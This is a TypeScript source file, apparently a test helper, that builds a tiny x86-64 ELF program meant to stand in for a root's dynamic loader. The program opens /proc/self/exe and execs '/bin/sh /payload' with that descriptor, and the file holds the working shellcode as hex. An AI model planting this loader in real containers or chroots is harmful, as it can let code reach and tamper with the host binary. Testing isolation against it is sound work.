/** Where the kernel looks for what loads the programs of this machine, in a root that has none of its own. */
export const interpreterPath = 'lib64/ld-linux-x86-64.so.2';

/**
 * A program for x86-64 that the kernel starts in the place of a loader: it opens `/proc/self/exe`, which is the program
 * that should have been loaded, and becomes `/bin/sh /payload`, which has it as its lowest free descriptor.
 */
export function hostileInterpreter(): Buffer {
  const headers = 64 + 56;
  const texts = ['/proc/self/exe', '/bin/sh', '/payload'].map(text => Buffer.from(`${text}\0`));
  const parts: Array<string | { readonly text: number }> = [
    ...['488d3d', { text: 0 }, '31f66a02580f05'],
    ...['488d3d', { text: 1 }, '31c050488d05', { text: 2 }, '50574889e631d26a3b580f05'],
    '6a3c580f05',
  ];
  const size = parts.reduce((sum, part) => sum + (typeof part === 'string' ? part.length / 2 : 4), 0);
  const code: Buffer[] = [];
  let at = 0;
  for (const part of parts) {
    const bytes = typeof part === 'string' ? Buffer.from(part, 'hex') : Buffer.alloc(4);
    at += bytes.length;
    if (typeof part !== 'string') {
      const before = texts.slice(0, part.text).reduce((sum, { length }) => sum + length, 0);
      bytes.writeInt32LE(size + before - at);
    }
    code.push(bytes);
  }
  const body = Buffer.concat([...code, ...texts]);
  const elf = Buffer.alloc(headers);
  elf.write('\x7fELF\x02\x01\x01', 0, 'latin1');
  // ET_DYN for x86-64, with one header of what is loaded: all of it.
  for (const [offset, value] of [
    ...[[16, 3] as const, [18, 62] as const, [52, 64] as const, [54, 56] as const, [56, 1] as const],
  ]) {
    elf.writeUInt16LE(value, offset);
  }
  elf.writeUInt32LE(1, 20);
  elf.writeBigUInt64LE(BigInt(headers), 24);
  elf.writeBigUInt64LE(64n, 32);
  elf.writeUInt32LE(1, 64);
  elf.writeUInt32LE(5, 68);
  for (const offset of [96, 104]) elf.writeBigUInt64LE(BigInt(headers + body.length), offset);
  elf.writeBigUInt64LE(0x1000n, 112);
  return Buffer.concat([elf, body]);
}
